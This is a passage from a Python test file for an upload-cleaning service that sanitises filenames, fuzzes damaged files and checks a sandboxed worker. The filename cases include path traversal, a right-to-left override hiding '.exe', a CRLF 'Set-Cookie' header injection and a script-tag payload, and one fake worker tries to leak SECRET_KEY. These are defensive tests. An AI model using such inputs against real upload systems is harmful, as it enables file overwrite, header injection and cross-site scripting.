        ("..\\..\\Windows\\x.PDF", "x.PDF"),
        ("/", "file.pdf"),
        ("", "file.pdf"),
        ("...", "file.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("ちらし\u202efdp.exe", "ちらしfdp.exe.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "ab Set-Cookie: x.pdf"),
        ("zero\u200bwidth\u2066.pdf", "zerowidth.pdf"),
        ("lone\ud800.pdf", "lone.pdf"),
        ("報告 v1.2", "報告 v1.2.pdf"),
        ("葛\U000e0100城.pdf", "葛\U000e0100城.pdf"),
        ("<script>alert(1)</script>.pdf", "script>.pdf"),
        ("IMG_0001.HEIC", "IMG_0001.pdf"),
        (unicodedata.normalize("NFD", "がぎぐ.pdf"), "がぎぐ.pdf"),
    ],
)
def test_the_name_people_see_is_tame_and_still_japanese(given, shown):
    assert display_name(given, ".pdf") == shown


@pytest.mark.parametrize("given", ["あ" * 300, "a" * 300 + ".pdf", "字" * 300 + ".exe", "🍡" * 300])
def test_a_name_is_at_most_120_characters_and_keeps_its_ending(given):
    shown = display_name(given, ".pdf")
    assert len(shown) <= 120
    assert shown.endswith(".pdf")


def test_a_photos_own_spelling_of_its_ending_stays():
    assert display_name("写真.JPEG", ".jpg") == "写真.JPEG"
    assert display_name("写真.heic", ".jpg") == "写真.jpg"


def test_the_name_on_disk_says_nothing_and_cannot_be_guessed():
    names = {neutral_name(".jpg") for _attempt in range(100)}
    assert len(names) == 100
    assert all(re.fullmatch(r"[0-9a-f]{32}\.jpg", name) for name in names)


# --- the worker


def damaged_copies(raw: bytes, count: int, seed: int):
    dice = random.Random(seed)
    for _copy in range(count):
        content = bytearray(raw)
        for _hit in range(dice.randrange(1, 30)):
            content[dice.randrange(12, len(content))] = dice.randrange(256)
        yield bytes(content)


@pytest.mark.parametrize("fmt", [*PHOTO_FORMATS, "PDF", "DOCX"])
def test_damaged_files_are_cleaned_or_refused_and_never_crash(fmt):
    raw = {"PDF": HOSTILE_PDFS["notes about the author"], "DOCX": hostile.docx()}.get(fmt)
    raw = raw or hostile.picture(fmt, hostile.noisy_photo((60, 60)))
    outcomes = set()
    for content in damaged_copies(raw, 8, seed=len(fmt)):
        try:
            clean = clean_document(content, "x") if fmt == "DOCX" else clean_upload(content, original_name="x")
        except UploadRefused as refusal:
            outcomes.add(refusal.code)
        else:
            outcomes.add(clean.kind)
    assert outcomes <= {"image", "pdf", "document", *words.MESSAGES}


def test_a_file_that_takes_too_long_is_refused(monkeypatch):
    monkeypatch.setattr(sandbox, "WORKER_WALL_SECONDS", 0.001)
    with pytest.raises(UploadRefused, match="too_heavy"):
        clean_upload(hostile.picture("JPEG"), original_name="x")


def fake_python(tmp_path, monkeypatch, script: str) -> None:
    path = tmp_path / "python"
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(0o755)
    monkeypatch.setattr(sandbox.sys, "executable", str(path))


@pytest.mark.parametrize(
    ("script", "code"),
    [
        ("kill -SEGV $$", "unreadable"),
        ("kill -KILL $$", "too_heavy"),
        ("exit 1", "unreadable"),
        ("cat > /dev/null; echo nonsense", "unreadable"),
        ("cat > /dev/null; echo '[]'", "unreadable"),
        ("cat > /dev/null", "unreadable"),
    ],
)
def test_a_worker_that_dies_costs_one_refusal_and_nothing_else(tmp_path, monkeypatch, script, code):
    fake_python(tmp_path, monkeypatch, script)
    with pytest.raises(UploadRefused) as refusal:
        clean_upload(hostile.picture("JPEG"), original_name="x")
    assert refusal.value.code == code


def test_without_a_free_process_people_are_asked_to_wait(monkeypatch):
    monkeypatch.setattr(sandbox.sys, "executable", "/nowhere/python")
    with pytest.raises(UploadRefused, match="busy"):
        clean_upload(hostile.picture("JPEG"), original_name="x")


def test_the_worker_starts_without_django_and_so_without_settings():
    modules = "images, pdfs, office, worker"
    script = f"import sys; from center.intake import {modules}; sys.exit('django' in sys.modules)"
    site = Path(sandbox.__file__).parents[2]
    assert subprocess.run([sys.executable, "-c", script], cwd=site, env={}, check=False).returncode == 0


def test_the_worker_knows_no_secret(tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "CANARY")
    fake_python(tmp_path, monkeypatch, 'cat > /dev/null; echo "{\\"refused\\": \\"${SECRET_KEY:-empty}\\"}"')
    with pytest.raises(UploadRefused, match="empty"):
        clean_upload(hostile.picture("JPEG"), original_name="x")
